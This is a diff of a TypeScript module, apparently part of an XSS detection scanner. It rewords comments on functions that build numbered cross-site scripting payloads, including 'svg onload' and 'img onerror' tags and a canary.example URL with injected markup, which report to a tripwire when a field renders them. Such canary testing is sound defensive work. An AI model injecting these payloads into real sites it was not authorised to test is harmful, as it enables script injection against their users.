@@ -1,4 +1,4 @@
-/** Every one of these calls the wire with its number, wherever somebody takes it for more than text. */
+/** Each of these requests the tripwire with its number if it's interpreted as more than text. */
 const short = (number: number): string[] => [
   `<svg onload=t(${number})>`,
   `"><img src=x onerror=t(${number})>`,
@@ -14,7 +14,7 @@ const short = (number: number): string[] => [
 
 const canary = 'https://canary.example';
 
-/** All of it at once, for where there is room. */
+/** All of them together, for long fields. */
 const whole = (number: number): string =>
   [
     ...short(number),
@@ -32,16 +32,16 @@ const whole = (number: number): string =>
     '\u2028\u2029',
   ].join(' ');
 
-/** What to try in one field, one after the other until one is taken; the number makes it known again. */
+/** Payloads to try in one field until one is accepted. The number identifies it later. */
 export function payloads(number: number, maxLength: number): string[] {
   const single = short(number);
-  // Each field begins with another one, so that all of them are somewhere.
+  // Each field starts with a different one, so that all of them are used.
   const turned = [...single.slice(number % single.length), ...single.slice(0, number % single.length)];
   const address = `https://canary.example/?"><svg/onload=t(${number})>`;
   return [whole(number), turned[0]!, single[0]!, address].filter((text) => text.length <= maxLength);
 }
 
-/** Each alone, for the control: a page that takes them for more than text. */
+/** Each alone, for the control: a page that interprets them. */
 export const eachPayload = (number: number): string[] => [
   `<svg onload=t(${number})>`,
   `"><img src=x onerror=t(${number})>`,
